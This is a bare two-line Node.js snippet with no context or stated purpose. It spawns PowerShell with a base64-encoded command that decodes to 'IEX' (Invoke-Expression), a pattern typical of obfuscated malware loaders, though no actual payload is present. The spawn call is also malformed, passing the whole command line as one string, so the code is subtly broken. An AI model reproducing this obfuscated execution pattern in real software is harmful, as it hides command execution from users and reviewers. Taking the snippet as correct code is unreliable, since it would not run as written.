const { spawn } = require('child_process');
spawn('powershell -enc SQBFAFgA');
